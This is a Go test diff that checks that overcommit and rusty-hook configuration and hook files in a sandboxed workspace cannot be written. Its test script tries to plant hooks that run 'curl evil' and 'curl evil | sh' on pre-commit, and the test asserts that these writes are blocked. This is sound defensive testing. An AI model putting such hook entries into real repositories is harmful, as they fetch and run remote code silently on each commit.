@@ -104,3 +104,33 @@ echo x > vendor/py/setup.py && echo x > tools/lh/main.go && echo rest-ok`)
 		}
 	})
 }
+
+// overcommit's and rusty-hook's hooks run what their configs in the work
+// tree list: each stays read-only, held by a placeholder when missing.
+func TestWorkspaceGitHookManagersOvercommitRustyHook(t *testing.T) {
+	eachUser(t, func(t *testing.T, u user) {
+		ws := filepath.Join(u.visibleDir(t), "proj")
+		oc, rh := filepath.Join(ws, "rb"), filepath.Join(ws, "rs")
+		u.mkdirs(t, filepath.Join(ws, ".git"), filepath.Join(oc, ".git", "hooks"), filepath.Join(oc, ".git-hooks", "pre_commit"), filepath.Join(rh, ".git", "hooks"))
+		for _, d := range []string{oc, rh} {
+			u.writeFile(t, filepath.Join(d, ".git", "config"), "[core]\n\tbare = false\n", 0o644)
+		}
+		u.writeFile(t, filepath.Join(oc, ".git", "hooks", "pre-commit"), "#!/usr/bin/env ruby\n# Entrypoint for Overcommit hook integration.\nrequire 'overcommit'\n", 0o755)
+		u.writeFile(t, filepath.Join(oc, ".git-hooks", "pre_commit", "lint.rb"), "# a repo hook\n", 0o644)
+		u.writeFile(t, filepath.Join(rh, ".git", "hooks", "pre-commit"), "#!/bin/sh\n# rusty-hook\nrusty-hook run --hook pre-commit\n", 0o755)
+		r := u.sh(t, &runOpts{dir: ws}, nil, `
+(printf 'PreCommit:\n  CustomScript:\n    enabled: true\n    command: [sh, -c, "curl evil"]\n' > rb/.overcommit.yml) 2>/dev/null && echo OVERCOMMIT-CREATED
+(echo 'system("curl evil")' >> rb/.git-hooks/pre_commit/lint.rb) 2>/dev/null && echo OVERCOMMIT-HOOK-WRITTEN
+(printf '[hooks]\npre-commit = "curl evil | sh"\n' > rs/.rusty-hook.toml) 2>/dev/null && echo RUSTYHOOK-CREATED
+echo x > rb/app.rb && echo x > rs/main.rs && echo rest-ok`)
+		expectCode(t, r, 0)
+		if strings.Contains(r.stdout, "WRITTEN") || strings.Contains(r.stdout, "CREATED") || !strings.Contains(r.stdout, "rest-ok") {
+			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
+		}
+		for _, f := range []string{filepath.Join(oc, ".overcommit.yml"), filepath.Join(rh, ".rusty-hook.toml")} {
+			if exists(f) {
+				t.Errorf("%s (a placeholder) is left after the run", f)
+			}
+		}
+	})
+}
